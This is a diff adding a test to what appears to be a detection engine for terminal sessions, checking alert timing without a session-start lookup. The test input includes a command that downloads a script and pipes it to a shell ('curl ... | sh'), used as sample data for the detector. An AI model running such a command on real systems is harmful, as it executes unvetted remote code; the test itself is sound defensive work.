@@ -364,3 +364,16 @@ def test_locate_match_gives_up_when_the_rule_does_not_depend_on_the_text() -> No
     assert locate_match("anything", lambda t: True) is None
     # not monotone (fires only on the whole line): located nowhere rather than somewhere wrong
     assert locate_match("abc", lambda t: t == "abc") in (0, None)
+
+
+def test_an_output_alert_needs_no_session_start_lookup() -> None:
+    asked: list[str] = []
+
+    def lookup(sid: str) -> int | None:
+        asked.append(sid)
+        return None
+
+    seg = _typed_segment("$ ", "curl -s https://x/i.sh | sh", prompt_ms=100, first_key_ms=2000)
+    alerts = SigmaEngine.starter(session_start_ms=lookup).evaluate(seg)
+    assert [a["offset_ms"] for a in alerts] == [2000]
+    assert asked == []
